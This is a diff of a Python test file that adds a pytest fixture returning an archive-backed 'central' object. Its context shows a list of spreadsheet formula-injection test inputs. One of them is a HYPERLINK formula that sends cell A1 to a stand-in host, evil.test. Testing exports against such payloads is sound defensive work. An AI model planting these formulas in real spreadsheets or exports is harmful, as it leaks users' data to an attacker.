@@ -22,6 +22,13 @@ from sync.protocol import heartbeat_path
 
 from .conftest import Central, rating
 
+
+@pytest.fixture
+def central(archive_central: Central) -> Central:
+    """The data here bear fixed past days: a central that files them (conftest ARCHIVE)."""
+    return archive_central
+
+
 FORMULAS = [
     '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
     "+SUM(1)",
